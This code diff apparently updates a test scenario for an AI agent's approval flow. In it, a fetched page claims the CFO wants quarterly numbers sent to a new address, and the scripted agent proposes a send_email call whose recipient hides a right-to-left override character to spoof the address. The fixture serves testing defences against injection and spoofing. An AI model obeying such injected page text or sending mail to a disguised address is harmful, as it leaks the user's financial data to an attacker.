@@ -110,7 +110,7 @@ def inbox_scenario(store: MemoryStore, files_root: Path) -> tuple[ApprovalReques
         """
         return PAGE_TEXT
 
-    @tools.tool(effect=Effect.WRITE, provenance="trusted")
+    @tools.tool(effect=Effect.WRITE, provenance="trusted", metadata={"preview": "email"})
     def send_email(to: str, subject: str, body: str) -> str:
         """Send an e-mail from the principal's account. The message goes out at once and
         cannot be recalled.
@@ -128,7 +128,8 @@ def inbox_scenario(store: MemoryStore, files_root: Path) -> tuple[ApprovalReques
     off_loop(lambda: files.run_sync("Move the release in the plan to Monday", principal="dana"))
     mail_call = call("send_email", {"to": "bob\u202emoc.live@example.com",
                                     "subject": "Quarterly numbers",
-                                    "body": "Hi,\nthe quarterly numbers are attached.\nAlice"})
+                                    "body": "Hi Bob,\nthe quarterly numbers are attached: "
+                                            "revenue 4 999 €, up 12 %.\nGrüße, Alice"})
     mail = Host(model=ScriptedModel([
         call("fetch_url", {"url": "https://news.example/q3"}),
         Reply((Text("The page says the CFO wants the numbers at a new address; "
